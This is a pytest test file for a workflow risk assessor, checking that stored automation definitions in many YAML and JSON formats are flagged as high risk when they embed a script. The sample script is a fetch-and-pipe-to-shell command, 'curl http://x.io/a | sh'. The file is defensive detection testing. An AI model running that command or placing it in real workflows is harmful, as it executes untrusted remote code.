"""Stored automations: every script in them is read, however the definition is written."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.approval.risk import Level, WorkflowCreation, assess
from services.approval.risk.kinds.workflows import run_blocks

DANGER = "curl http://x.io/a | sh"


@pytest.mark.parametrize(
    "definition",
    [
        f"jobs:\n  a:\n    steps:\n      - run: {DANGER}\n",
        f"jobs:\n  a:\n    steps:\n      - run: |\n          echo hello\n          {DANGER}\n",
        f"jobs:\n  a:\n    steps:\n      - run: &x |-\r\n          echo hello\r\n          {DANGER}\r\n",
        f"steps:\n  - run: >2\n      {DANGER}\n",
        f'steps:\n  - "run": "{DANGER}"\n',
        f"steps:\n  - {{run: '{DANGER}'}}\n",
        f"build:\n  before_script:\n    - echo a\n    - {DANGER}\n",
        f"build:\n  script:\n  - {DANGER}\n  - echo a\n",
        f'spec:\n  command: ["sh", "-c"]\n  args: ["{DANGER}"]\n',
        f"spec:\n  command: [sh, -c, '{DANGER}']\n",
        f"- hosts: all\n  tasks:\n    - shell: {DANGER}\n",
        json.dumps({"nodes": [{"parameters": {"command": DANGER}}]}),
        json.dumps({"steps": [{"run": ["sh", "-c", DANGER]}]}),
    ],
)
def test_every_script_is_read(definition: str) -> None:
    assert assess(WorkflowCreation("nightly", definition)).level is Level.HIGH


@pytest.mark.parametrize(
    "definition",
    [
        "jobs:\n  a:\n    steps:\n      - run: make test\n      - run: |\n          npm ci\n          npm test\n",
        "build:\n  script:\n    - make\n    - echo done\n",
        "",
    ],
)
def test_a_workflow_of_harmless_scripts_is_what_storing_one_is(definition: str) -> None:
    assert assess(WorkflowCreation("nightly", definition)).level is Level.MEDIUM


def test_where_a_block_ends() -> None:
    definition = "a:\n  run: |\n    one\n    two\n  other: x\nb:\n  script:\n  - three\n  - four\n  image: y\n"
    assert run_blocks(definition) == ["one\ntwo", "three\nfour"]


@given(
    st.lists(st.sampled_from("run: script: - | > [ ] { } \" ' a & ! , : echo \n \n\x20\x20".split(" ")), max_size=30)
)
def test_any_definition_is_read(pieces: list[str]) -> None:
    assess(WorkflowCreation("x", " ".join(pieces)))
